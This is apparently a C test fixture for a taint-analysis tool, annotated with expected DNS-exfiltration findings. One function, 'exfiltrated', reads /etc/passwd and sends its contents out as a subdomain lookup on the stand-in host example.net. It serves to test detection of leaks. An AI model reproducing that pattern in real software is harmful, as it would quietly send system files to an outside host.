// A name of a machine that settings hold is looked up as it was read, or cut out of it: only what is put into a name leaves by it.
#include <netdb.h>
#include <stdio.h>
#include <string.h>

void settings(void) {
    char line[100], host[100];
    FILE *file = fopen("agent.conf", "r");
    fgets(line, 100, file); //~ source(FILE) d1
    strncpy(host, strtok(line, " "), 100);
    gethostbyname(host); //~ sink(egress.dns) d1, finding(dns-exfiltration, assumed) d1
}

void exfiltrated(void) {
    char line[100], host[200];
    FILE *file = fopen("/etc/passwd", "r");
    fgets(line, 100, file); //~ source(FILE) d2
    snprintf(host, 200, "%s.example.net", line);
    gethostbyname(host); //~ sink(egress.dns) d2, finding(dns-exfiltration, traced) d2
}

void fixed(void) {
    char line[100];
    FILE *file = fopen("other.conf", "r");
    fgets(line, 100, file); //~ ok
    gethostbyname("example.net"); //~ ok
}
